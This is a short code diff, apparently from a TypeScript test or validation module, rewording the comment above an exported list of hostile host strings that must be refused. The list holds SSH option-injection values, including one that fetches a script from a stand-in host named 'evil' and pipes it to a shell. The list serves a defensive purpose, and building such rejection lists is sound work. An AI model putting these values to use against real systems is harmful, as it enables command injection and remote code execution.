@@ -1,4 +1,4 @@
-/** What a service could name as a host and is none: each is refused, wherever it would go. */
+/** Malformed hosts that a service could send; each must be refused everywhere. */
 export const nastyHosts: readonly string[] = [
   '-oProxyCommand=id',
   '-oProxyCommand=curl evil|sh',
